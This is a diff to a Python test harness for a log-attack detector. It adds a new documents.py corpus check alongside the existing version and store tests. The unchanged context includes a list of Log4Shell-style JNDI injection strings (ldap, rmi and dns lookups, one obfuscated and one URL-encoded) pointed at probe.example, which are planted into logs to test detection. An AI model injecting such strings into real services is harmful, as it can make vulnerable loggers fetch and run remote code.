@@ -5,7 +5,8 @@ Reads every file below DIR/logs (or DIR when it has no logs folder). Two questio
  * Quiet: does detect report anything? Each report is printed for a person to look at, and counts as a failure unless the
    log really was attacked: list such files, one path per line relative to DIR, in DIR/attacked.txt.
  * Awake: with an attack planted in place of a random word of some lines, does detect report exactly those lines?
-Version vectors, ranges and OSV records are for tools/corpora/versions.py, two sources side by side for tools/corpora/store.py, where --tools has the tests' programs.
+Version vectors, ranges and OSV records are for tools/corpora/versions.py, two sources side by side for tools/corpora/store.py,
+bills of materials and what vendors say for tools/corpora/documents.py, where --tools has the tests' programs.
 Prints N passed, N failed, N skipped. Nothing is written below DIR.
 """
 import argparse
@@ -19,7 +20,7 @@ import subprocess
 import sys
 import tempfile
 
-from corpora import store, versions
+from corpora import documents, store, versions
 
 OPENERS = {".gz": gzip.open, ".bz2": bz2.open, ".xz": lzma.open}
 PLANTS = ["${jndi:ldap://probe.example/a}", "${${lower:j}ndi:rmi://probe.example/a}", "%24%7Bjndi:dns://probe.example/a%7D",
@@ -101,7 +102,8 @@ def main():
             failed += 1
             print(f"{name}: planted but not found, lines {sorted(set(want) - set(got))[:20]}; found but not planted {sorted(set(got) - set(want))[:20]}")
     if args.tools:
-        for counts in (versions.run(root, args.tools, print), store.run(root, args.tools, pathlib.Path(args.caltrop).resolve(), print)):
+        caltrop = pathlib.Path(args.caltrop).resolve()
+        for counts in (versions.run(root, args.tools, print), store.run(root, args.tools, caltrop, print), documents.run(root, args.tools, caltrop, args.tools.resolve().parent, print)):
             passed, failed, skipped = (a + b for a, b in zip((passed, failed, skipped), counts))
     print(f"{passed} passed, {failed} failed, {skipped} skipped")
     return 1 if failed else 0
